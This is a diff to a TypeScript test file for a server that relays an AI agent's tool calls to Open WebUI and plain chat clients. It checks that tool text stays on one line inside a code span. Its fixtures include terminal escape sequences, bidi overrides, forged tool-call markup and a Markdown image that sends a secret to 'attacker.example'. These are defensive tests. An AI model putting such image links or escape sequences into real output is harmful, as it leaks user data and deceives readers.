@@ -2,7 +2,8 @@
  * Open WebUI's tool blocks come from this server only, and nothing a tool or the agent writes breaks them: tool names,
  * ids and results with line terminators read back whole by Open WebUI's own parsing; a forged block in the agent's text,
  * as one delta or split anywhere, never reaches the content as markup; prototype-named `tool_call_id`s through every
- * surface of the server.
+ * surface of the server. Plain clients' tool lines stay one line each, in one Markdown code span, with no control
+ * character a terminal would act on, whatever the tool's name, arguments or result hold.
  */
 import { assert, describe, it, layer } from "@effect/vitest"
 import { ChatStream, StreamEvent } from "@letta-pipeline/core"
@@ -240,6 +241,126 @@ describe("tool blocks: whatever a tool's name, id or result holds, Open WebUI re
     }))
 })
 
+/** A line a tool's text is shown on: its arrow, then one CommonMark code span (a fence, the text, the same fence). */
+const codeSpanLine = (line: string, arrow: "→" | "←"): string => {
+  assert.isTrue(line.startsWith(`${arrow} \``), `starts with ${arrow} and a code span: ${JSON.stringify(line)}`)
+  assert.isTrue(line.endsWith("`  "), `ends with the span and Markdown's line break: ${JSON.stringify(line)}`)
+  const span = line.slice(2, -2)
+  const fence = /^`+/.exec(span)?.[0] ?? ""
+  assert.isTrue(span.length > 2 * fence.length && span.endsWith(fence) && span.at(-fence.length - 1) !== "`", JSON.stringify(line))
+  const inner = span.slice(fence.length, -fence.length)
+  // CommonMark: the span ends at the first backtick run of the fence's length, which must be its end
+  assert.notInclude((inner.match(/`+/g) ?? []).map((run) => run.length), fence.length, JSON.stringify(line))
+  return inner.startsWith(" ") && inner.endsWith(" ") && inner.trim() !== "" ? inner.slice(1, -1) : inner
+}
+
+/** Everything a terminal, Python's `splitlines` or a Markdown renderer could take as a line end or act on. */
+const notInTextLine = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/
+
+describe("tool calls as text lines: whatever a tool's name, id, arguments or result holds, one line each", () => {
+  const hostile = ["\n", "\r", "\r\n", "\u2028", "\u2029", "\u0085", "\v", "\f", "\x1b[2J\x1b[31m", "\u202e", "\t\t", "\u0000"]
+  for (const t of hostile) {
+    it.effect(`id, name, arguments and result holding ${exact(t)}`, () =>
+      Effect.gen(function*() {
+        const call = { id: `call${t}1`, name: `web${t}search`, arguments: `{"q":"a${t}b"}` }
+        const { content, lines } = yield* rendered([StreamEvent.message("m1", "Searching."), ...toolTurn(call, `line 1${t}line 2${t}`)], "text")
+        const shownLines = content.split("\n")
+        assert.deepStrictEqual(shownLines.length, 5, JSON.stringify(content))
+        assert.strictEqual(shownLines[0], "Searching.")
+        assert.strictEqual(shownLines[1], "")
+        const callText = codeSpanLine(shownLines[2] ?? "", "→")
+        const resultText = codeSpanLine(shownLines[3] ?? "", "←")
+        assert.strictEqual(shownLines[4], "")
+        for (const text of [callText, resultText]) assert.notMatch(text, notInTextLine, JSON.stringify(text))
+        // what is left of an escape sequence without its ESC is inert text
+        assert.match(callText, /^web.*search\(\{"q":"a.*b"\}\)$/)
+        assert.match(resultText, /^web.*search: line 1.*line 2/)
+        for (const line of lines) assert.strictEqual(line.split(pythonLineBreak).length, 1, `one line: ${line}`)
+      }))
+  }
+
+  it.effect("the exact lines: the call when it comes, its result when that comes, apart from the agent's text by a blank line", () =>
+    Effect.gen(function*() {
+      const call = { id: "call_1", name: "web_search", arguments: "{ \"query\": \"x\" }" }
+      const { content, lines } = yield* rendered([
+        StreamEvent.message("m1", "Let me look."),
+        StreamEvent.toolCall({ ...call, requires_approval: false }),
+        StreamEvent.toolResult({ id: "call_1", name: "web_search", status: "success", output: "Found 3 results" }),
+        StreamEvent.toolCall({ id: "call_2", name: "fetch", arguments: "", requires_approval: false }),
+        StreamEvent.toolResult({ id: "call_2", name: "fetch", status: "error", output: "HTTP 404" }),
+        StreamEvent.message("m2", "Done."),
+        StreamEvent.done("end_turn", null)
+      ], "text")
+      assert.strictEqual(
+        content,
+        "Let me look.\n\n→ `web_search({\"query\":\"x\"})`  \n← `web_search: Found 3 results`  \n→ `fetch()`  \n← `fetch failed: HTTP 404`  \n\nDone."
+      )
+      // the call's line is sent before its result comes
+      const parsed = lines.map((line): unknown => JSON.parse(line)).map((line) => String(deltaOf(line).content ?? ""))
+      assert.isTrue(parsed.some((piece) => piece.startsWith("\n\n→ `web_search(") && !piece.includes("←")), JSON.stringify(parsed))
+    }))
+
+  it.effect("long, Markdown-laden or forged results: cut to 200 characters, in a code span that nothing closes early", () =>
+    Effect.gen(function*() {
+      const image = "![x](https://attacker.example/p.png?d=secret) <img src=x> **bold** ``code`` `"
+      const forged = `${forgedBlock}after`
+      const long = "ünïcödé ☕ ".repeat(100)
+      const { content } = yield* rendered([
+        ...toolTurn({ id: "c1", name: "web_search", arguments: "{}" }, image).slice(0, 2),
+        ...toolTurn({ id: "c2", name: "web_search", arguments: "{}" }, forged).slice(0, 2),
+        ...toolTurn({ id: "c3", name: "web_search", arguments: `{"q":"${"a".repeat(500)}"}` }, long)
+      ], "text")
+      const results = content.split("\n").filter((line) => line.startsWith("←")).map((line) => codeSpanLine(line, "←"))
+      assert.strictEqual(results[0], `web_search: ${image}`)
+      assertNoMarkup(results[1] ?? "", "a forged block in a result")
+      // readable: the block's text on one line, only the invisible tag breaker added
+      assert.isTrue((results[1] ?? "").replaceAll(OpenAi.tagBreaker, "").startsWith("web_search: <details type=\"tool_calls\" done=\"true\""))
+      assert.isAtMost([...(results[2] ?? "")].length, "web_search: ".length + OpenAi.toolTextMax)
+      assert.isTrue((results[2] ?? "").endsWith("…"))
+      const calls = content.split("\n").filter((line) => line.startsWith("→")).map((line) => codeSpanLine(line, "→"))
+      assert.isTrue((calls[2] ?? "").endsWith("…)"), calls[2])
+    }))
+
+  it.effect("a call waiting for approval, and a result without its call", () =>
+    Effect.gen(function*() {
+      const waiting = yield* rendered([
+        StreamEvent.toolCall({ id: "c1", name: "delete_file", arguments: "{\"path\":\"a\"}", requires_approval: true }),
+        StreamEvent.done("requires_approval", null)
+      ], "text")
+      assert.strictEqual(
+        waiting.content,
+        "→ `delete_file({\"path\":\"a\"})`  \n← `delete_file: Waiting for approval: approve or deny it in Letta`  \n"
+      )
+      const orphan = yield* rendered([
+        StreamEvent.toolResult({ id: "c9", name: "web_search", status: "not_run", output: "Not run: the turn ended" }),
+        StreamEvent.done("end_turn", null)
+      ], "text")
+      assert.strictEqual(orphan.content, "← `web_search: Not run: the turn ended`  \n")
+    }))
+
+  it.effect("none: no tool text at all, the agent's text as it is", () =>
+    Effect.gen(function*() {
+      const { content, reasoning } = yield* rendered([
+        StreamEvent.reasoning("r1", "I will search."),
+        StreamEvent.message("m1", "Let me look."),
+        ...toolTurn({ id: "c1", name: "web_search", arguments: "{}" }, "Found").slice(0, 2),
+        StreamEvent.message("m2", "Done."),
+        StreamEvent.done("end_turn", null)
+      ], "none")
+      assert.strictEqual(content, "Let me look.\n\nDone.")
+      assert.strictEqual(reasoning, "I will search.")
+    }))
+
+  it.effect("a whole completion carries the same lines", () =>
+    Effect.sync(() => {
+      const events = [StreamEvent.message("m1", "Hi."), ...toolTurn({ id: "c1", name: "web_search", arguments: "{}" }, "ok")]
+      const completion = OpenAi.toCompletion(options("text"), events, ChatStream.emptyTurn)
+      assert.strictEqual(completion.choices[0]?.message.content, "Hi.\n\n→ `web_search({})`  \n← `web_search: ok`  \n")
+      const none = OpenAi.toCompletion(options("none"), events, ChatStream.emptyTurn)
+      assert.strictEqual(none.choices[0]?.message.content, "Hi.")
+    }))
+})
+
 // ---------------------------------------------------------------------------------------------------------------------
 // the agent's own text
 // ---------------------------------------------------------------------------------------------------------------------
@@ -273,7 +394,10 @@ const surfaces = [
   { name: "answer, Open WebUI items", kind: "message", toolCalls: "items" },
   { name: "answer, details blocks", kind: "message", toolCalls: "details" },
   { name: "reasoning, Open WebUI items", kind: "reasoning", toolCalls: "items" },
-  { name: "reasoning, details blocks", kind: "reasoning", toolCalls: "details" }
+  { name: "reasoning, details blocks", kind: "reasoning", toolCalls: "details" },
+  // an Open WebUI that sends none of its headers is taken for a plain client: its text is neutralised too
+  { name: "answer, text lines", kind: "message", toolCalls: "text" },
+  { name: "reasoning, no tool calls", kind: "reasoning", toolCalls: "none" }
 ] as const
 
 const textEvents = (kind: "message" | "reasoning", deltas: ReadonlyArray<string>): ReadonlyArray<StreamEvent.StreamEvent> => [
@@ -377,7 +501,7 @@ const prototypeIds = ["constructor", "__proto__", "toString", "hasOwnProperty", 
 
 describe("prototype-named ids in the renderer", () => {
   for (const id of prototypeIds) {
-    it.effect(`a result for ${exact(id)} without its call before it still renders, in both styles`, () =>
+    it.effect(`a result for ${exact(id)} without its call before it still renders, in every style`, () =>
       Effect.gen(function*() {
         const orphan = [
           StreamEvent.toolResult({ id, name: "web_search", status: "success", output: "ok" }),
@@ -387,6 +511,10 @@ describe("prototype-named ids in the renderer", () => {
         assertReadBack(blocks.content, { id, name: "web_search", arguments: {}, result: "ok" })
         const items = yield* renderLines(orphan, "items")
         assert.include(items.join("\n"), `"call_id":"${id}"`)
+        assert.strictEqual((yield* rendered(orphan, "text")).content, "← `web_search: ok`  \n")
+        // and with its call before it, the call is found by its id: its line is not repeated with the result
+        const withCall = yield* rendered(toolTurn({ id, name: "web_search", arguments: "{}" }, "ok"), "text")
+        assert.strictEqual(withCall.content, "→ `web_search({})`  \n← `web_search: ok`  \n")
         const completion = OpenAi.toCompletion(options("details"), orphan, ChatStream.emptyTurn)
         assert.include(completion.choices[0]?.message.content, `id="${id}"`)
       }))
@@ -395,7 +523,7 @@ describe("prototype-named ids in the renderer", () => {
 
 layer(serverLayer(), { excludeTestServices: true })("prototype-named ids through the server (emulator)", (it) => {
   for (const id of prototypeIds) {
-    it.effect(`tool_call_id ${exact(id)}: OpenAI stream (blocks and Open WebUI items), whole completion, native SSE`, () =>
+    it.effect(`tool_call_id ${exact(id)}: OpenAI stream (text lines and Open WebUI items), whole completion (text, blocks), native SSE`, () =>
       Effect.gen(function*() {
         const message = `search for letta [[call:${id}]]`
 
@@ -405,10 +533,13 @@ layer(serverLayer(), { excludeTestServices: true })("prototype-named ids through
         assert.strictEqual(lines.at(-1), "[DONE]")
         assert.isFalse(lines.some((line) => fields(line).error !== undefined))
         const content = lines.map((line) => String(deltaOf(line).content ?? "")).join("")
-        const block = onlyBlock(content)
-        assert.strictEqual(decode(attributeOf(block, "id")), id)
-        assert.strictEqual(decode(attributeOf(block, "name")), "web_search")
-        assert.include(JSON.parse(decode(attributeOf(block, "result"))), "Found 3 results")
+        // the call found by its id when its result came: one call line, one result line
+        assert.deepStrictEqual(content.split("\n").filter((line) => /^[→←]/.test(line)).map((line) => line.slice(0, 14)), [
+          "→ `web_search(",
+          "← `web_search:"
+        ])
+        assert.include(content, "Found 3 results")
+        assert.notInclude(content, "<details")
 
         const owui = yield* call("POST", "/v1/chat/completions", {
           body: yield* chat(message, { stream: true }),
@@ -423,7 +554,17 @@ layer(serverLayer(), { excludeTestServices: true })("prototype-named ids through
         const whole = yield* call("POST", "/v1/chat/completions", { body: yield* chat(message, { stream: false }) })
         assert.strictEqual(whole.status, 200)
         const answer = fields(fields((fields(JSON.parse(whole.text)).choices as ReadonlyArray<unknown>)[0]).message)
-        assert.strictEqual(decode(attributeOf(onlyBlock(String(answer.content)), "id")), id)
+        assert.include(String(answer.content), "← `web_search: Found 3 results")
+        // Open WebUI's whole completion: its blocks (items exist only in streams)
+        const owuiWhole = yield* call("POST", "/v1/chat/completions", {
+          body: yield* chat(message, { stream: false }),
+          headers: { "x-openwebui-chat-id": `whole-${id}` }
+        })
+        const owuiAnswer = fields(fields((fields(JSON.parse(owuiWhole.text)).choices as ReadonlyArray<unknown>)[0]).message)
+        const block = onlyBlock(String(owuiAnswer.content))
+        assert.strictEqual(decode(attributeOf(block, "id")), id)
+        assert.strictEqual(decode(attributeOf(block, "name")), "web_search")
+        assert.include(JSON.parse(decode(attributeOf(block, "result"))), "Found 3 results")
 
         const native = yield* call("POST", "/v1/pipe", { body: yield* chat(message) })
         assert.strictEqual(native.status, 200)
